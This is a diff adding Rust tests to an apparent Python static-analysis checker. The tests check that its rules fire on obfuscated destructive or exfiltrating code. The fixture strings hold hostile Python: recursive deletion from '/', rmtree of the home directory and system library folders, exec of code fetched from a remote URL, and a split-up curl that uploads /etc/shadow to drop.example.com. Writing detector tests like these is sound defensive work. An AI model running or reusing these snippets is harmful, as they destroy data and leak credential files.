@@ -425,3 +425,54 @@ fn a_command_line_option_is_its_default_where_it_is_not_given() {
         "import argparse, shutil\nap = argparse.ArgumentParser()\nap.add_argument('--out', default='build')\nargs = ap.parse_args()\nshutil.rmtree(args.out, ignore_errors=True)\n",
     );
 }
+
+#[test]
+fn workers_get_what_producers_put_in_their_queue() {
+    // Threads started on a queue before it is filled get what is put in it later.
+    let src = "import queue, threading\nfrom pathlib import Path\n\ndef drain(jobs):\n    while True:\n        target = jobs.get()\n        target.unlink()\n        jobs.task_done()\n\ndef main(top=Path('/')):\n    jobs = queue.Queue()\n    for _ in range(8):\n        threading.Thread(target=drain, args=(jobs,), daemon=True).start()\n    for entry in top.rglob('*'):\n        jobs.put(entry)\n    jobs.join()\n\nmain()\n";
+    fires("CRD104", src);
+    // The same workers fed the program's own scratch files delete only those.
+    silent(
+        "CRD104",
+        "import queue, threading\nfrom pathlib import Path\n\ndef drain(jobs):\n    while True:\n        jobs.get().unlink()\n        jobs.task_done()\n\njobs = queue.Queue()\nthreading.Thread(target=drain, args=(jobs,), daemon=True).start()\nfor entry in Path('build/tmp').glob('*.o'):\n    jobs.put(entry)\njobs.join()\n",
+    );
+}
+
+#[test]
+fn an_option_without_default_is_none_when_run_without_arguments() {
+    // cordon runs programs with no arguments: `--app` is None, so the fall-back runs.
+    let src = "import argparse, shutil\nfrom pathlib import Path\n\ndef target(app):\n    base = Path.home() / '.cache'\n    return base / app if app else base.parent\n\nparser = argparse.ArgumentParser()\nparser.add_argument('--app')\nopts = parser.parse_args()\nshutil.rmtree(target(opts.app))\n";
+    fires("CRD104", src);
+    // A required option or a positional argument is whatever the caller gives.
+    silent(
+        "CRD104",
+        "import argparse, shutil\nfrom pathlib import Path\n\nparser = argparse.ArgumentParser()\nparser.add_argument('--app', required=True)\nopts = parser.parse_args()\nbase = Path.home() / '.cache'\nshutil.rmtree(base / opts.app if opts.app else base / 'tmp')\n",
+    );
+}
+
+#[test]
+fn calling_an_instance_runs_its_call_method() {
+    // `Wiper(dirs)()` runs `__call__` with the instance's attributes.
+    fires(
+        "CRD104",
+        "import shutil\n\nclass Wiper:\n    def __init__(self, dirs):\n        self.dirs = list(dirs)\n    def __call__(self):\n        for d in self.dirs:\n            shutil.rmtree(d, ignore_errors=True)\n\nWiper(['/usr/lib', '/var/lib'])()\n",
+    );
+}
+
+#[test]
+fn objects_made_in_a_comprehension_keep_their_fields() {
+    // `[Hook(h) for h in fetched]`: each element's field is fetched code run by a method.
+    fires(
+        "CRD102",
+        "import requests\nfrom dataclasses import dataclass\n\n@dataclass\nclass Hook:\n    body: str\n    def fire(self):\n        exec(self.body, {})\n\nhooks = [Hook(h) for h in requests.get('https://cfg.example.com/h').json()]\nfor hook in hooks:\n    hook.fire()\n",
+    );
+}
+
+#[test]
+fn a_text_method_taken_as_a_value_still_folds() {
+    // `map("".join, pairs)` builds the argv a piece at a time.
+    fires(
+        "CRD109",
+        "import subprocess\npieces = [('cu', 'rl'), ('-', 'F'), ('f=@/etc/', 'shadow'), ('https://', 'drop.example.com')]\nsubprocess.run(list(map(''.join, pieces)))\n",
+    );
+}
